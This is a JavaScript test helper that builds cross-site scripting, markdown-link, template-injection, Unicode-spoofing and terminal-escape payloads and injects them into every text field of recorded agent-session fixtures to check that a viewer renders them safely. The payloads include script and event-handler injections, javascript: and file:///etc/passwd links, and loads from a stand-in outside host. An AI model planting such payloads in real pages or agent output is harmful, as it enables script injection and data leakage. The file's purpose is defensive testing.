// What an agent, or what it read, may say to do harm; and recorded sessions in which every field says it.
import fs from "node:fs";
import path from "node:path";
import { root } from "./drive.mjs";

const DO = "window.__pwned=1;alert(1)";

/// Texts that would do something in a page that is not careful. `out` is an address that nobody may ask.
export function vectors(out) {
  const host = new URL(out).host;
  return [
    `<script>${DO}</script>`,
    `</script></style></title></textarea></pre><script src="${out}/s.js"></script>`,
    `<img src=x onerror="${DO}"><img src="${out}/i.png">`,
    `"><svg/onload=${DO}>`,
    `<svg><animate onbegin=${DO} attributeName=x dur=1s><a xlink:href="javascript:${DO}"><text y=20>x</text></a></svg>`,
    `<iframe src="javascript:${DO}"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${out}/m"><base href="${out}/">`,
    `<link rel=stylesheet href="${out}/l.css"><style>@import "${out}/t.css"; * { background: url(${out}/b) }</style>`,
    `' onmouseover='${DO}' autofocus onfocus='${DO}' x='`,
    `<details open ontoggle=${DO}><video src onerror=${DO}><body onload=${DO}>`,
    `<form action="${out}/f"><button formaction="javascript:${DO}">x</button><input autofocus onfocus=${DO}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${DO}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${DO}>"><template><script>${DO}</script></template><xmp><img src=x onerror=${DO}></xmp>`,
    `[a](javascript:${DO}) [b](JaVaScRiPt:${DO}) [c](java\tscript:${DO}) [d](&#106;avascript:${DO}) [e]( javascript:${DO})`,
    `[data](data:text/html,<script>${DO}</script>) [vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:${out}/x)`,
    `<javascript:${DO}> <data:text/html,x> [x][ref] ![y][ref]\n\n[ref]: javascript:${DO} "t"`,
    `![p](${out}/p.png) ![q](${out}/q.png "t") [![r](${out}/r.png)](${out}/link) ![s](//${host}/s.png)`,
    `![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![j](javascript:${DO})`,
    `[spoof](https://example.com@${host}/) [user](http://a:${"b"}@${host}/x) <${out}/auto> ${out}/bare http://[::1`,
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62; &amp;lt; &#x202e;&#0;",
    "${window.__pwned=1} `${alert(1)}` {{constructor.constructor('window.__pwned=1')()}} <%= 7*7 %> #{7*7} $$\\href{javascript:alert(1)}{x}$$",
    "before \u202egnp.exe\u202c after \u2066isolated\u2069 \u200e\u200f\u061c zero\u200bwidth\u200d\u2060 tag\u{e0041}\u{e0042} \ufeff",
    `\u001b[31mred\u001b[0m \u001b]0;owned\u0007 \u001b]8;;javascript:${DO}\u0007link\u001b]8;;\u0007 \u001b]8;;${out}/o\u001b\\shown\u001b]8;;\u001b\\ \u009b2J\u001b[2J\u001bc\r over`,
    "\u0000\u0001\u0008\u000b\u000c\u007f\u0085\u2028\u2029\ufffe\uffff nothing",
    "__proto__ constructor prototype hasOwnProperty toString valueOf __defineGetter__",
    `\`\`\`html"onload=${DO}\n<script>${DO}</script>\n\`\`\` \`\`\`mermaid\nclick a "javascript:${DO}"\n`,
    `a${"long".repeat(400)}`,
  ];
}

/// The same as one text.
export const everything = (out) => vectors(out).join("\n\n");

/// Names that are something else to JavaScript, HTML, CSS or an address.
export const NAMES = [
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "a'b\"c", "a/b/../c", "100%", "%2e%2e%2f", "a b\tc", "日本☃\u202e", "<img src=x onerror=window.__pwned=1>",
  "x]\\[data-row=\"", "#?&=;", "javascript:alert(1)", "../..", "-1", "null",
];

/// What tells a reader what a packet is, and what is no text.
const KEPT = new Set([
  "jsonrpc", "method", "type", "subtype", "sessionUpdate", "role", "status", "kind", "operation", "outcome", "behavior", "dir", "event",
  "toolName", "tool_name", "encoding", "mimeType", "media_type", "data", "signature", "partial_json", "stopReason", "stop_reason", "decision",
]);
const ID = /(?:^|_)(?:id|uuid)$|(?:Id|Uuid|UUID)$/;
const TIME = /^\d{4}-\d\d-\d\dT/;

/// A recorded session in which every other text is one of the vectors. What belonged together still does.
class Poison {
  constructor(name, all, first) {
    Object.assign(this, { name, all, at: first, ids: new Map() });
  }

  text() {
    return this.all[this.at++ % this.all.length];
  }

  id(value) {
    if (!this.ids.has(value)) this.ids.set(value, `${NAMES[this.ids.size % NAMES.length]} ${this.name} ${this.ids.size}`);
    return this.ids.get(value);
  }

  value(value, key, owner) {
    if (Array.isArray(value)) return value.map((one) => this.value(one, key, owner));
    if (value && typeof value === "object") {
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, this.value(one, name, value)]));
    }
    if (typeof value !== "string" || KEPT.has(key) || TIME.test(value)) return value;
    if (ID.test(key)) return this.id(value);
    // The tool decides what its card looks like.
    if (key === "name" && owner.type === "tool_use") return value;
    if (key === "title" && /^[a-z_]+$/.test(value) && this.at % 2) return value;
    return /path$|^cwd$/i.test(key) ? `/srv/${this.text()}` : this.text();
  }

  line(text) {
    try {
      return JSON.stringify(this.value(JSON.parse(text)));
    } catch {
      return text;
    }
  }
}

/// Recorded sessions that together have every kind of packet and field of a format, with poison in them.
export function poisoned(format, out, least) {
  const folder = path.join(root, "crates/narrows/tests/fixtures", format);
  const known = fs.readdirSync(folder).map((name) => {
    const text = fs.readFileSync(path.join(folder, name, "input.jsonl"), "utf8");
    const lines = text.trimEnd().split("\n");
    return { name, lines, size: text.length, fields: fieldsOf(lines) };
  });
  const left = new Set(known.filter((k) => k.size < 60_000).flatMap((k) => [...k.fields]));
  const all = vectors(out);
  const chosen = [];
  for (;;) {
    const worth = (k) => [...k.fields].filter((field) => left.has(field)).length;
    const [best, news] = known.map((k) => [k, k.size < 60_000 ? worth(k) : 0]).sort((a, b) => b[1] / (b[0].size + 3000) - a[1] / (a[0].size + 3000))[0];
    if (news < least) return chosen;
    best.fields.forEach((field) => left.delete(field));
    const poison = new Poison(best.name, all, chosen.length * 7);
    chosen.push({ name: best.name, lines: best.lines.map((line) => poison.line(line)) });
  }
}

/// Which kinds of packets have which texts.
function fieldsOf(lines) {
  const fields = new Set();
  const walk = (value, place) => {
    if (typeof value === "string") fields.add(place);
    else if (Array.isArray(value)) value.forEach((one) => walk(one, `${place}[]`));
    else if (value && typeof value === "object") {
      const kind = [value.type, value.sessionUpdate, value.subtype, value.method].filter((word) => typeof word === "string").join();
      for (const [name, one] of Object.entries(value)) walk(one, `${place}<${kind}>.${name}`);
    }
  };
  for (const line of lines) {
    try {
      const packet = JSON.parse(line);
      walk(packet.msg ?? packet, "");
    } catch {
      // Not every line of every recording is one.
    }
  }
  return fields;
}
